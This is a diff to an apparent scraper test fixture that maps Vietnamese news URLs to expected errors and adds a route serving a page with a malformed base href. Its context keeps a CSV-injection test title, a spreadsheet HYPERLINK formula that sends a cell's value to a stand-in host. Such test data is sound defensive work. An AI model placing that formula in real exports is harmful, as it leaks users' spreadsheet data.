@@ -57,6 +57,7 @@ CASES = {
     "/tin-tuc/ngat-ket-noi-1022.html": "DownloadFailedError",
     "/tin-tuc/vong-lap-chuyen-huong-1023.html": "redirect_loop",
     "/tin-tuc/chuyen-huong-ra-ngoai-1024.html": "offsite",
+    "/tin-tuc/the-base-hong-1025.html": "emit",
 }
 # A title a spreadsheet would run as a formula (CSV injection), sending a cell away.
 FORMULA_TITLE = '=HYPERLINK("http://thu-nghiem.invalid/?d="&B2,"Xem chi tiết")'
@@ -278,4 +279,7 @@ ROUTES = {
     "/tin-tuc/ngat-ket-noi-1022.html": _reset,
     "/tin-tuc/vong-lap-chuyen-huong-1023.html": _loop,
     "/tin-tuc/chuyen-huong-ra-ngoai-1024.html": _offsite,
+    # A <base href> no URL parser takes: Scrapy's meta-refresh check raised on it.
+    "/tin-tuc/the-base-hong-1025.html": lambda h, p: h.send(200, article("Một cửa liên thông quý II").replace(
+        "</head>", "<base href='http://[::1/'></head>").encode("utf-8")),
 }
